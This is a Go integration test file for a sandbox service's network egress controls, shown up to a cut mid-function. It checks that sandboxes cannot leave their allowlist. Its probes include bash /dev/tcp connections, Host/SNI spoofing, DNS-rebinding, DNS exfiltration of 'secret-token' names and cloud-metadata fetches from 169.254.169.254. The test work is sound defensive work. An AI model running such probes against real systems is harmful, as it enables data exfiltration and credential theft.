//go:build linux

package network_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"

	"github.com/paddockhq/paddock/client"
	"github.com/paddockhq/paddock/internal/audit"
	"github.com/paddockhq/paddock/internal/egress"
	"github.com/paddockhq/paddock/internal/errs"
	"github.com/paddockhq/paddock/internal/network"
	"github.com/paddockhq/paddock/internal/rights"
	"github.com/paddockhq/paddock/internal/sandbox"
	"github.com/paddockhq/paddock/internal/store"
	"github.com/paddockhq/paddock/internal/tenant"
	"github.com/paddockhq/paddock/internal/testenv"
)

// The Show tests: real sandboxes (testenv) whose network's host side
// lives in the lab's host namespace. Every hostile attempt has its
// positive control: the same connection made unsandboxed reaches its
// server.

type netEnv struct {
	*testenv.Env
	lab *lab
	st  *network.Stack
	dec *decisions
}

func newNetEnv(t *testing.T, o testenv.Options) *netEnv {
	t.Helper()
	testenv.RequireRoot(t)
	l := newLab(t)
	st, dec := newStack(t, l, nil)
	o.Network = st
	e := testenv.New(t, o)
	mgr := network.Events(e.Manager)
	st.Egress().SetSink(egress.SinkFunc(func(ctx context.Context, d egress.Decision) {
		dec.Decision(ctx, d)
		mgr.Decision(ctx, d)
	}))
	return &netEnv{Env: e, lab: l, st: st, dec: dec}
}

func (n *netEnv) create(t *testing.T, mode string, allow ...string) sandbox.Sandbox {
	t.Helper()
	return n.Create(sandbox.Spec{Network: &sandbox.Network{Mode: mode, Allow: allow}})
}

// sh runs a script in the sandbox and returns its combined output and
// exit code.
func (n *netEnv) sh(t *testing.T, id, script string) (string, int) {
	t.Helper()
	r := n.Sh(id, script)
	return r.Stdout + r.Stderr, r.ExitCode
}

// ok asserts that script succeeds and prints want.
func (n *netEnv) ok(t *testing.T, id, what, script, want string) {
	t.Helper()
	out, code := n.sh(t, id, script)
	if code != 0 || !strings.Contains(out, want) {
		t.Errorf("%s: want success with %q, got exit %d:\n%s", what, want, code, out)
	}
}

// refused asserts that script does not get leak (a server's answer).
func (n *netEnv) refused(t *testing.T, id, what, script, leak string) string {
	t.Helper()
	out, code := n.sh(t, id, script)
	t.Logf("%s (refused as expected; exit %d): %s", what, code, lastLine(out))
	if strings.Contains(out, leak) {
		t.Errorf("%s: refused in the sandbox was expected, but it got through (exit %d):\n%s", what, code, out)
	}
	return out
}

func lastLine(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return lines[len(lines)-1]
}

const (
	curl     = "curl -sS -m 5 "
	curlNoPx = "curl -sS -m 5 --noproxy '*' "
	pyURL    = `python3 -c 'import urllib.request,sys; print(urllib.request.urlopen(sys.argv[1], timeout=5).read().decode())' `
	pyNoPx   = `python3 -c 'import urllib.request,sys; o=urllib.request.build_opener(urllib.request.ProxyHandler({})); print(o.open(sys.argv[1], timeout=5).read().decode())' `
)

// devTCP is a raw HTTP/1.0 request through bash's /dev/tcp (no proxy
// support at all; resolution through the sandbox's resolver).
func devTCP(host, hostHdr string) string {
	return fmt.Sprintf(`bash -c 'exec 3<>/dev/tcp/%s/80 && printf "GET / HTTP/1.0\r\nHost: %s\r\n\r\n" >&3 && timeout 5 cat <&3'`, host, hostHdr)
}

func TestNoneModeIsolation(t *testing.T) {
	n := newNetEnv(t, testenv.Options{})
	sb := n.Create(sandbox.Spec{})
	out, _ := n.sh(t, sb.ID, "cat /proc/net/dev; cat /etc/resolv.conf; env | grep -i _proxy; true")
	if strings.Contains(out, "eth0") || !strings.Contains(out, "loopback only") || strings.Contains(out, "HTTP_PROXY") {
		t.Errorf("a none-mode sandbox has more than loopback:\n%s", out)
	}
	// Positive control: the server answers anyone who can route to it.
	if body, err := n.lab.host.httpGet("http://203.0.113.10/"); err != nil || !strings.Contains(body, "hello from allowed.test") {
		t.Fatalf("positive control: %q %v", body, err)
	}
	n.refused(t, sb.ID, "none: curl to an address", curlNoPx+"http://203.0.113.10/", "hello")
	n.refused(t, sb.ID, "none: /dev/tcp to an address", devTCP("203.0.113.10", "allowed.test"), "hello")
	n.refused(t, sb.ID, "none: name", curl+"http://allowed.test/", "hello")
	if _, ok := n.st.Attachment(sb.ID); ok {
		t.Error("a none-mode sandbox has an attachment")
	}
}

func TestAllowlist(t *testing.T) {
	n := newNetEnv(t, testenv.Options{})
	sb := n.create(t, "allowlist", "allowed.test", "static.test")
	out, _ := n.sh(t, sb.ID, "env | grep -i _proxy; cat /etc/resolv.conf")
	if !strings.Contains(out, "HTTP_PROXY=http://") || !strings.Contains(out, "nameserver ") {
		t.Fatalf("no proxy variables or resolver:\n%s", out)
	}
	// Allowed, with the proxy variables (explicit proxy) and without them
	// (transparent): curl, python, bash's /dev/tcp.
	for _, tc := range []struct{ what, script, want string }{
		{"curl via HTTP_PROXY", curl + "http://allowed.test/", "hello from allowed.test host=allowed.test"},
		{"curl https via HTTPS_PROXY (CONNECT)", curl + "-k https://allowed.test/", "hello over tls from allowed.test"},
		{"python urllib via proxy", pyURL + "http://allowed.test/", "hello from allowed.test"},
		{"curl without proxy", curlNoPx + "http://allowed.test/", "hello from allowed.test host=allowed.test"},
		{"curl https without proxy", curlNoPx + "-k https://allowed.test/", "hello over tls from allowed.test"},
		{"python urllib without proxy", pyNoPx + "http://allowed.test/", "hello from allowed.test"},
		{"bash /dev/tcp", devTCP("allowed.test", "allowed.test"), "hello from allowed.test"},
		{"a --dns-host name", curlNoPx + "http://static.test/", "hello from allowed.test host=static.test"},
	} {
		n.ok(t, sb.ID, tc.what, tc.script, tc.want)
	}
	// Positive control for the refusals: other.test answers the host.
	if body, err := n.lab.host.httpGet("http://203.0.113.11/"); err != nil || !strings.Contains(body, "hello from other.test") {
		t.Fatalf("positive control: %q %v", body, err)
	}
	for _, tc := range []struct{ what, script string }{
		{"curl via proxy", curl + "http://other.test/"},
		{"curl https via proxy", curl + "-k https://other.test/"},
		{"python via proxy", pyURL + "http://other.test/"},
		{"curl without proxy", curlNoPx + "http://other.test/"},
		{"curl https without proxy", curlNoPx + "-k https://other.test/"},
		{"python without proxy", pyNoPx + "http://other.test/"},
		{"bash /dev/tcp by name", devTCP("other.test", "other.test")},
		{"bash /dev/tcp by address", devTCP("203.0.113.11", "other.test")},
		{"a subdomain of an allowed name", curlNoPx + "--resolve www.allowed.test:80:203.0.113.10 http://www.allowed.test/"},
	} {
		n.refused(t, sb.ID, "other.test: "+tc.what, tc.script, "hello from other.test")
	}
	out, _ = n.sh(t, sb.ID, curl+"-o /dev/null -w '%{http_code}' http://other.test/")
	if !strings.Contains(out, "403") {
		t.Errorf("the explicit proxy should answer 403, got %q", out)
	}
	// Decisions are reported: the allowed connections with their bytes,
	// the refusals with a reason; and they reach the audit log.
	d := n.dec.find(t, func(d egress.Decision) bool {
		return d.Sandbox == sb.ID && d.Allowed && d.Name == "allowed.test" && d.BytesDown > 0 && d.Via == "transparent"
	})
	if d.Port != 80 || d.Addr != "203.0.113.10" || !strings.Contains(d.Reason, "allowed.test") {
		t.Errorf("allowed decision = %+v", d)
	}
	n.dec.find(t, func(d egress.Decision) bool {
		return d.Sandbox == sb.ID && !d.Allowed && d.Name == "other.test" && strings.Contains(d.Reason, "not in the allowlist")
	})
	n.dec.find(t, func(d egress.Decision) bool {
		return d.Sandbox == sb.ID && !d.Allowed && d.Kind == "dns" && d.Name == "other.test"
	})
	waitAudit(t, n, sb.ID, func(r audit.Record) bool {
		var args map[string]any
		_ = json.Unmarshal(r.Args, &args)
		return r.Action == "net.connect" && r.Phase == "event" && args["allowed"] == false && args["name"] == "other.test"
	})
}

// waitAudit waits (bounded) for a matching record of sandbox id.
func waitAudit(t *testing.T, n *netEnv, id string, pred func(audit.Record) bool) {
	t.Helper()
	if n.AuditLog() == nil {
		return
	}
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		for _, r := range n.AuditRecords(audit.Query{Sandbox: id}) {
			if pred(r) {
				return
			}
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Errorf("no matching audit record for %s", id)
}

func TestHostSNIMismatch(t *testing.T) {
	n := newNetEnv(t, testenv.Options{})
	sb := n.create(t, "allowlist", "allowed.test", "other.test")
	// Controls: the right names at the right addresses pass.
	n.ok(t, sb.ID, "matching Host", curlNoPx+"http://allowed.test/", "hello from allowed.test")
	n.ok(t, sb.ID, "matching SNI", curlNoPx+"-k --resolve allowed.test:443:203.0.113.10 https://allowed.test/", "hello over tls from allowed.test")
	n.ok(t, sb.ID, "matching CONNECT and SNI", pyConnect("allowed.test", "allowed.test"), "hello over tls from allowed.test")
	// Mismatches: an allowed name claimed at another allowed name's
	// address, a disallowed name at an allowed address, a Host header
	// that is not the URI's.
	for _, tc := range []struct{ what, script, leak string }{
		{"transparent Host of another name", curlNoPx + "-H 'Host: other.test' http://allowed.test/", "hello"},
		{"transparent Host of a disallowed name", curlNoPx + "-H 'Host: evil.test' http://allowed.test/", "hello"},
		{"transparent SNI of another name", curlNoPx + "-k --resolve other.test:443:203.0.113.10 https://other.test/", "hello"},
		{"transparent SNI of a disallowed name", curlNoPx + "-k --resolve evil.test:443:203.0.113.10 https://evil.test/", "hello"},
		{"explicit Host not the URI's", curl + "-H 'Host: other.test' http://allowed.test/", "hello"},
		{"CONNECT with another SNI", pyConnect("allowed.test", "other.test"), "hello"},
		{"second request with another Host", pyTwoRequests("allowed.test", "other.test"), "hello from other.test"},
		{"TLS without a server name", pyNoSNI, "hello"},
	} {
		n.refused(t, sb.ID, tc.what, tc.script, tc.leak)
	}
	out, _ := n.sh(t, sb.ID, pyTwoRequests("allowed.test", "other.test"))
	if !strings.Contains(out, "hello from allowed.test host=allowed.test") {
		t.Errorf("the first, matching request of the connection should pass:\n%s", out)
	}
	n.dec.find(t, func(d egress.Decision) bool {
		return d.Sandbox == sb.ID && strings.Contains(d.Reason, "does not match")
	})
}

// pyConnect opens a CONNECT tunnel to target:443 through the proxy and
// speaks TLS with server name sni inside.
func pyConnect(target, sni string) string {
	return fmt.Sprintf(`python3 - <<'EOF'
import os, socket, ssl, urllib.parse
p = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
s = socket.create_connection((p.hostname, p.port), timeout=5)
s.sendall(b"CONNECT %[1]s:443 HTTP/1.1\r\nHost: %[1]s:443\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head:
    b = s.recv(1)
    if not b: break
    head += b
print(head.decode().splitlines()[0])
ctx = ssl._create_unverified_context()
try:
    t = ctx.wrap_socket(s, server_hostname="%[2]s")
    t.sendall(b"GET / HTTP/1.0\r\nHost: %[2]s\r\n\r\n")
    print(t.recv(4096).decode())
except Exception as e:
    print("refused:", e)
EOF`, target, sni)
}

// pyNoSNI speaks TLS without a server name to allowed.test's address.
const pyNoSNI = `python3 - <<'EOF'
import socket, ssl
s = socket.create_connection(("allowed.test", 443), timeout=5)
try:
    t = ssl._create_unverified_context().wrap_socket(s)
    t.sendall(b"GET / HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
    print(t.recv(4096).decode())
except Exception as e:
    print("refused:", e)
EOF`

// pyTwoRequests sends two requests on one transparent connection to
// first's address, with Hosts first and then second.
func pyTwoRequests(first, second string) string {
	return fmt.Sprintf(`python3 - <<'EOF'
import socket
s = socket.create_connection(("%[1]s", 80), timeout=5)
for h in ("%[1]s", "%[2]s"):
    try:
        s.sendall(("GET / HTTP/1.1\r\nHost: %%s\r\n\r\n" %% h).encode())
        print(s.recv(4096).decode())
    except Exception as e:
        print("refused:", e)
EOF`, first, second)
}

func TestIPLiteralRefused(t *testing.T) {
	n := newNetEnv(t, testenv.Options{})
	sb := n.create(t, "allowlist", "allowed.test")
	if body, err := n.lab.host.httpGet("http://203.0.113.10/"); err != nil || !strings.Contains(body, "hello") {
		t.Fatalf("positive control: %q %v", body, err)
	}
	// Nothing was resolved yet: the address is only an address.
	for _, tc := range []struct{ what, script string }{
		{"transparent", curlNoPx + "http://203.0.113.10/"},
		{"transparent tls", curlNoPx + "-k https://203.0.113.10/"},
		{"explicit", curl + "http://203.0.113.10/"},
		{"CONNECT", curl + "-k https://203.0.113.10/"},
		{"bash", devTCP("203.0.113.10", "203.0.113.10")},
	} {
		n.refused(t, sb.ID, "IP literal: "+tc.what, tc.script, "hello")
	}
	n.dec.find(t, func(d egress.Decision) bool {
		return d.Sandbox == sb.ID && !d.Allowed && strings.Contains(d.Reason, "IP literal")
	})
	// allow_cidr allows it.
	if _, err := n.Client.SetNetwork(context.Background(), sb.ID, client.Network{Mode: "allowlist",
		Allow: []string{"allowed.test"}, AllowCIDR: []string{"203.0.113.10/32"}}); err != nil {
		t.Fatal(err)
	}
	n.ok(t, sb.ID, "allow_cidr, transparent", curlNoPx+"http://203.0.113.10/", "hello from allowed.test")
	n.ok(t, sb.ID, "allow_cidr, explicit", curl+"http://203.0.113.10/", "hello from allowed.test")
	n.refused(t, sb.ID, "outside allow_cidr", curlNoPx+"http://203.0.113.11/", "hello")
}

func TestRebindingRefused(t *testing.T) {
	n := newNetEnv(t, testenv.Options{})
	// A service on the proxy's own loopback: what rebinding would reach.
	var hits atomic.Int64
	ln := n.lab.host.Listen("tcp4", "127.0.0.1:80")
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			hits.Add(1)
			c.Write([]byte("HTTP/1.0 200 OK\r\n\r\nHOST-LOOPBACK-SECRET\n"))
			c.Close()
		}
	}()
	if c, err := n.lab.host.dial("tcp", "127.0.0.1:80", 3*time.Second); err != nil {
		t.Fatalf("positive control: %v", err)
	} else {
		c.Close()
	}
	for hits.Load() == 0 {
		time.Sleep(time.Millisecond)
	}
	sb := n.create(t, "allowlist", "rebind.test", "rebind-static.test")
	for _, name := range []string{"rebind.test", "rebind-static.test"} {
		out := n.refused(t, sb.ID, name+" explicit", curl+"http://"+name+"/", "SECRET")
		if !strings.Contains(out, "refused addresses") {
			t.Errorf("%s: the proxy should say why:\n%s", name, out)
		}
		out = n.refused(t, sb.ID, name+" resolve", "getent hosts "+name+"; echo exit=$?", "127.0.0.1")
		if !strings.Contains(out, "exit=2") {
			t.Errorf("%s: the resolver should give no address:\n%s", name, out)
		}
		n.refused(t, sb.ID, name+" CONNECT", curl+"-k https://"+name+"/", "SECRET")
	}
	if got := hits.Load(); got != 1 {
		t.Errorf("the loopback service was reached %d times from the sandbox", got-1)
	}
	n.dec.find(t, func(d egress.Decision) bool {
		return d.Sandbox == sb.ID && strings.Contains(d.Reason, "rebinding")
	})
}

func TestDNSNeverLeaves(t *testing.T) {
	n := newNetEnv(t, testenv.Options{})
	sb := n.create(t, "allowlist", "allowed.test")
	script := `getent hosts secret-token-1111.exfil.test; echo getent=$?
python3 -c 'import socket; socket.getaddrinfo("secret-token-2222.exfil.test", 80)' 2>&1 | tail -1
python3 - <<'EOF'
import socket, struct
# A raw query to a public resolver the sandbox picked itself: redirected
# to the egress resolver, which does not forward it.
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
for l in b"secret-token-3333.exfil.test".split(b"."):
    q += bytes([len(l)]) + l
q += b"\x00" + struct.pack(">HH", 16, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(q, ("8.8.8.8", 53))
r = s.recv(512)
print("rcode", r[3] & 15)
EOF
getent hosts allowed.test`
	out, _ := n.sh(t, sb.ID, script)
	if !strings.Contains(out, "getent=2") || !strings.Contains(out, "rcode 3") || !strings.Contains(out, "203.0.113.10") {
		t.Errorf("want NXDOMAIN for the disallowed names and an answer for the allowed one:\n%s", out)
	}
	if got := n.lab.resolver.asked("secret-token"); len(got) > 0 {
		t.Errorf("the upstream resolver saw disallowed names: %q", got)
	}
	// Positive controls: the allowed name did go upstream, and the
	// upstream records what reaches it.
	if len(n.lab.resolver.asked("allowed.test")) == 0 {
		t.Error("the allowed name never reached the upstream resolver")
	}
	c := &dns.Client{Timeout: 3 * time.Second}
	q := new(dns.Msg)
	q.SetQuestion("control-4242.exfil.test.", dns.TypeA)
	if err := n.lab.host.Do(func() error { _, _, err := c.Exchange(q, "203.0.113.53:53"); return err }); err != nil {
		t.Fatal(err)
	}
	if len(n.lab.resolver.asked("control-4242")) != 1 {
		t.Error("positive control: a direct query was not seen upstream")
	}
	n.dec.find(t, func(d egress.Decision) bool {
		return d.Kind == "dns" && d.Name == "secret-token-3333.exfil.test" && !d.Allowed
	})
}

func TestOpenModeRefusesMetadata(t *testing.T) {
	n := newNetEnv(t, testenv.Options{})
	for _, u := range []string{"http://169.254.169.254/", "http://[fd00:ec2::254]/"} {
		if body, err := n.lab.host.httpGet(u); err != nil || !strings.Contains(body, "METADATA-SECRET") {
			t.Fatalf("positive control %s: %q %v", u, body, err)
		}
	}
	sb := n.create(t, "open")
	n.ok(t, sb.ID, "open: a public name", curlNoPx+"http://public.test/", "hello from allowed.test host=public.test")
	n.ok(t, sb.ID, "open: a public address", curlNoPx+"http://203.0.113.11/", "hello from other.test")
	n.ok(t, sb.ID, "open: via the proxy", curl+"http://other.test/", "hello from other.test")
	for _, tc := range []struct{ what, script string }{
		{"metadata, transparent", curlNoPx + "http://169.254.169.254/latest/meta-data/"},
		{"metadata, explicit", curl + "http://169.254.169.254/latest/meta-data/"},
		{"metadata, CONNECT", curl + "-k https://169.254.169.254/"},
		{"metadata by name", curlNoPx + "http://meta.test/"},
		{"metadata by name, explicit", curl + "http://meta.test/"},
		{"metadata IPv6, transparent", curlNoPx + "-g 'http://[fd00:ec2::254]/'"},
		{"metadata IPv6, explicit", curl + "-g 'http://[fd00:ec2::254]/'"},
		{"metadata, bash", devTCP("169.254.169.254", "169.254.169.254")},
		{"metadata, python", pyNoPx + "http://169.254.169.254/"},
	} {
		n.refused(t, sb.ID, tc.what, tc.script, "METADATA")
	}
	n.refused(t, sb.ID, "a documentation range nobody allowed", curlNoPx+"http://198.51.100.20/", "hello")
	n.dec.find(t, func(d egress.Decision) bool {
		return d.Sandbox == sb.ID && strings.Contains(d.Reason, "metadata")
	})
}

func TestRuntimePolicyChange(t *testing.T) {
	n := newNetEnv(t, testenv.Options{})
	ctx := context.Background()
	sb := n.Create(sandbox.Spec{})
	n.refused(t, sb.ID, "none", curl+"http://allowed.test/", "hello")
	got, err := n.Client.SetNetwork(ctx, sb.ID, client.Network{Mode: "allowlist", Allow: []string{"Allowed.Test"}})
	if err != nil || got.Mode != "allowlist" || len(got.Allow) != 1 || got.Allow[0] != "allowed.test" {
		t.Fatalf("set network = %+v, %v", got, err)
	}
	n.ok(t, sb.ID, "none → allowlist, explicit", curl+"http://allowed.test/", "hello from allowed.test")
	n.ok(t, sb.ID, "none → allowlist, transparent", curlNoPx+"http://allowed.test/", "hello from allowed.test")
	if _, err := n.Client.SetNetwork(ctx, sb.ID, client.Network{Mode: "allowlist", Allow: []string{"other.test"}}); err != nil {
		t.Fatal(err)
	}
	n.refused(t, sb.ID, "allowlist changed: old name", curlNoPx+"http://allowed.test/", "hello")
	n.ok(t, sb.ID, "allowlist changed: new name", curlNoPx+"http://other.test/", "hello from other.test")
	if _, err := n.Client.SetNetwork(ctx, sb.ID, client.Network{Mode: "open"}); err != nil {
		t.Fatal(err)
	}
	n.ok(t, sb.ID, "allowlist → open", curlNoPx+"http://public.test/", "hello from allowed.test")
	cur, err := n.Client.Network(ctx, sb.ID)
	if err != nil || cur.Mode != "open" {
		t.Fatalf("get network = %+v, %v", cur, err)
	}
	if _, err := n.Client.SetNetwork(ctx, sb.ID, client.Network{Mode: "none"}); err != nil {
		t.Fatal(err)
	}
	out, _ := n.sh(t, sb.ID, "cat /proc/net/dev /etc/resolv.conf; env | grep -ci _proxy")
	if strings.Contains(out, "eth0") || !strings.Contains(out, "loopback only") || !strings.HasSuffix(strings.TrimSpace(out), "0") {
		t.Errorf("back to none, the sandbox still has a network:\n%s", out)
	}
	n.refused(t, sb.ID, "open → none", curlNoPx+"http://203.0.113.10/", "hello")
	s, err := n.Client.Get(ctx, sb.ID)
	if err != nil || s.Spec.Network == nil || s.Spec.Network.Mode != "none" {
		t.Errorf("the spec does not show the change: %+v %v", s.Spec.Network, err)
	}
}

func TestLongConnectionClosedByPolicyChange(t *testing.T) {
	n := newNetEnv(t, testenv.Options{})
	ctx := context.Background()
	sb := n.create(t, "allowlist", "allowed.test")
	script := `python3 - <<'EOF'
import socket, sys
s = socket.create_connection(("allowed.test", 7), timeout=20)
s.sendall(b"ping")
print("echo", s.recv(4).decode(), flush=True)
open("/tmp/ready", "w").close()
try:
    d = s.recv(4)
    print("closed" if not d else "got " + d.decode())
except Exception as e:
    print("closed", e)
EOF`
	done := make(chan string, 1)
	go func() {
		r, err := n.Client.Exec(ctx, sb.ID, client.ExecRequest{Cmd: []string{"/bin/sh", "-c", script}})
		done <- fmt.Sprint(r.Stdout, r.Stderr, err)
	}()
	for i := 0; ; i++ {
		if _, code := n.sh(t, sb.ID, "test -e /tmp/ready"); code == 0 {
			break
		}
		if i > 200 {
			t.Fatal("the connection never opened")
		}
		time.Sleep(25 * time.Millisecond)
	}
	if _, err := n.Client.SetNetwork(ctx, sb.ID, client.Network{Mode: "allowlist", Allow: []string{"other.test"}}); err != nil {
		t.Fatal(err)
	}
	select {
	case out := <-done:
		if !strings.Contains(out, "echo ping") || !strings.Contains(out, "closed") {
			t.Errorf("the open connection was not closed by the policy change:\n%s", out)
		}
	case <-time.After(15 * time.Second):
		t.Fatal("the open connection survived the policy change")
	}
}

func TestWarmPoolGetsNetwork(t *testing.T) {
	n := newNetEnv(t, testenv.Options{PoolSize: 1})
	var sb sandbox.Sandbox
	for i := 0; ; i++ { // wait for the pool to fill
		sb = n.create(t, "allowlist", "allowed.test")
		if sb.FromPool {
			break
		}
		if i > 40 {
			t.Fatal("the warm pool never served a create")
		}
		_ = n.Manager.Delete(context.Background(), n.Scope, sb.ID)
		time.Sleep(100 * time.Millisecond)
	}
	n.ok(t, sb.ID, "a claimed pool sandbox", curl+"http://allowed.test/", "hello from allowed.test")
	n.ok(t, sb.ID, "a claimed pool sandbox, transparent", curlNoPx+"http://allowed.test/", "hello from allowed.test")
	n.refused(t, sb.ID, "a claimed pool sandbox, other name", curlNoPx+"http://other.test/", "hello")
}

func TestUDPICMPRawGoNowhere(t *testing.T) {
	n := newNetEnv(t, testenv.Options{})
	sb := n.create(t, "open")
	slot, _ := n.st.Attachment(sb.ID)
	script := fmt.Sprintf(`python3 - <<'EOF'
import socket, errno
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"from-sandbox-udp", ("203.0.113.10", 9999))
s.sendto(b"from-sandbox-udp", ("203.0.113.10", 53))
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
c.settimeout(3)
c.connect(("%s", 9999))
c.send(b"to-host")
try:
    c.recv(10)
    print("udp-host: answered")
except ConnectionRefusedError:
    print("udp-host: refused")
except Exception as e:
    print("udp-host:", type(e).__name__)
for name, args in (("raw", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
                   ("raw6", (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)),
                   ("packet", (socket.AF_PACKET, socket.SOCK_RAW, 0)),
                   ("ping", (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))):
    try:
        socket.socket(*args)
        print(name + ": created")
    except OSError as e:
        print(name + ": " + errno.errorcode.get(e.errno, str(e.errno)))
EOF`, slot.HostV4)
	out, _ := n.sh(t, sb.ID, script)
	for _, want := range []string{"udp-host: refused", "raw: EPERM", "raw6: EPERM", "packet: EAFNOSUPPORT", "ping: EACCES"} {
		if !strings.Contains(out, want) {
			t.Errorf("want %q:\n%s", want, out)
		}
	}
	// Positive controls: a datagram from the host side arrives, and the
	// host side may open a raw socket.
	c, err := n.lab.host.dial("udp4", "203.0.113.10:9999", time.Second)
	must(t, err)
	c.Write([]byte("control-marker"))
	c.Close()
	for _, g := range n.lab.udp.until(t, "control-marker") {
		if strings.Contains(g, "from-sandbox") {
			t.Errorf("a sandbox datagram reached the outside: %q", g)
		}
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
	if err != nil {
		t.Fatalf("positive control: raw socket on the host: %v", err)
	}
	unix.Close(fd)
}

func TestHostAndOtherSandboxesRefused(t *testing.T) {
	n := newNetEnv(t, testenv.Options{})
	// Stand-in for the server's own API port on the host side.
	api := n.lab.host.Listen("tcp", ":7070")
	go func() {
		for {
			c, err := api.Accept()
			if err != nil {
				return
			}
			c.Write([]byte("HTTP/1.0 200 OK\r\n\r\nPADDOCK-API\n"))
			c.Close()
		}
	}()
	a := n.create(t, "open")
	b := n.create(t, "open")
	sa, _ := n.st.Attachment(a.ID)
	sbb, _ := n.st.Attachment(b.ID)
	n.sh(t, b.ID, "nohup python3 -m http.server 8080 --bind 0.0.0.0 >/dev/null 2>&1 & for i in $(seq 50); do python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", 8080))' 2>/dev/null && break; sleep 0.1; done")
	// Positive controls: the host side reaches the API stand-in (on every
	// address), and sandbox B's server.
	for _, addr := range []string{"127.0.0.1:7070", sa.HostV4.String() + ":7070"} {
		c, err := n.lab.host.dial("tcp", addr, 3*time.Second)
		if err != nil {
			t.Fatalf("positive control %s: %v", addr, err)
		}
		c.Close()
	}
	if c, err := n.lab.out.dial("tcp", "10.250.0.1:7070", 3*time.Second); err != nil {
		t.Fatalf("positive control from outside: %v", err)
	} else {
		c.Close()
	}
	if body, err := n.lab.host.httpGet("http://" + net.JoinHostPort(sbb.SbV4.String(), "8080") + "/"); err != nil || !strings.Contains(body, "Directory listing") {
		t.Fatalf("positive control: sandbox B's server from the host: %q %v", body, err)
	}
	for _, tc := range []struct{ what, url string }{
		{"the API port on the gateway", "http://" + sa.HostV4.String() + ":7070/"},
		{"the API port on another host address", "http://10.250.0.1:7070/"},
		{"the API port on the gateway (IPv6)", "http://[" + sa.HostV6.String() + "]:7070/"},
		{"the proxy's own port, transparently", "http://" + sa.HostV4.String() + ":15053/"},
	} {
		n.refused(t, a.ID, tc.what, curlNoPx+"-g '"+tc.url+"'", "PADDOCK-API")
		n.refused(t, a.ID, tc.what+" (explicit)", curl+"-g '"+tc.url+"'", "PADDOCK-API")
	}
	for _, u := range []string{"http://" + sbb.SbV4.String() + ":8080/", "http://[" + sbb.SbV6.String() + "]:8080/", "http://" + sbb.HostV4.String() + ":7070/"} {
		n.refused(t, a.ID, "another sandbox "+u, curlNoPx+"-g '"+u+"'", "Directory listing")
		n.refused(t, a.ID, "another sandbox (explicit) "+u, curl+"-g '"+u+"'", "Directory listing")
	}
	// The proxy and resolver are not reachable from the host's other
	// interfaces (positive control above: that interface reaches :7070).
	if c, err := n.lab.out.dial("tcp", "10.250.0.1:15001", 3*time.Second); err == nil {
		c.Close()
		t.Error("the egress proxy accepted a connection from outside")
	}
}

func TestBadInput(t *testing.T) {
	n := newNetEnv(t, testenv.Options{})
	ctx := context.Background()
	for _, tc := range []struct {
		net  sandbox.Network
		want string
	}{
		{sandbox.Network{Mode: "allowlist", Allow: []string{"*"}}, `network.allow[0] "*"`},
		{sandbox.Network{Mode: "allowlist", Allow: []string{"*.com"}}, "public suffix"},
		{sandbox.Network{Mode: "allowlist", Allow: []string{"ok.test", "*.co.uk"}}, `network.allow[1] "*.co.uk"`},
		{sandbox.Network{Mode: "allowlist", Allow: []string{"exa mple.com"}}, "invalid character"},
		{sandbox.Network{Mode: "allowlist", Allow: []string{"a..b"}}, "empty label"},
		{sandbox.Network{Mode: "allowlist", Allow: []string{"example.com:99999"}}, "port"},
		{sandbox.Network{Mode: "allowlist", Allow: []string{"10.0.0.1"}}, "allow_cidr"},
		{sandbox.Network{Mode: "allowlist", AllowCIDR: []string{"10.0.0.1/8"}}, "host bits"},
		{sandbox.Network{Mode: "allowlist", AllowCIDR: []string{"not-a-cidr"}}, `network.allow_cidr[0]`},
		{sandbox.Network{Mode: "closed"}, `network.mode "closed"`},
		{sandbox.Network{Mode: "none", Allow: []string{"example.com"}}, "needs network mode allowlist"},
		{sandbox.Network{Mode: "open", Allow: []string{"example.com"}}, "open mode"},
	} {
		_, err := n.Client.Create(ctx, client.Spec{Network: &tc.net})
		var ce *client.Error
		if !asClientErr(err, &ce) || ce.Status != 400 || ce.Code != "invalid_argument" || !strings.Contains(ce.Message, tc.want) {
			t.Errorf("create %+v: %v; want a 400 mentioning %q", tc.net, err, tc.want)
		}
	}
	sb := n.Create(sandbox.Spec{})
	_, err := n.Client.SetNetwork(ctx, sb.ID, client.Network{Mode: "allowlist", Allow: []string{"*.com"}})
	var ce *client.Error
	if !asClientErr(err, &ce) || ce.Status != 400 {
		t.Errorf("set network *.com: %v; want 400", err)
	}
	if _, err := n.Client.SetNetwork(ctx, "sb-doesnotexistdoesnotexist2", client.Network{Mode: "open"}); !client.IsNotFound(err) {
		t.Errorf("set network on an unknown sandbox: %v; want 404", err)
	}
	// A tenant's ceiling: allowlist of allowed.test only.
	if _, err := n.Quotas.Tenants().Create(ctx, "acme", tenant.Quotas{NetworkModes: []string{"allowlist"},
		AllowedDomains: []string{"allowed.test"}}); err != nil {
		t.Fatal(err)
	}
	acme := sandbox.Scope{Tenant: "acme", Actor: "test", Rights: rights.All}
	if _, err := n.Manager.Create(ctx, acme, sandbox.Spec{Network: &sandbox.Network{Mode: "open"}}); errs.CodeOf(err) != errs.CodeForbidden {
		t.Errorf("acme create open: %v; want forbidden", err)
	}
	asb, err := n.Manager.Create(ctx, acme, sandbox.Spec{Network: &sandbox.Network{Mode: "allowlist", Allow: []string{"allowed.test"}}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = n.Manager.Delete(ctx, acme, asb.ID) })
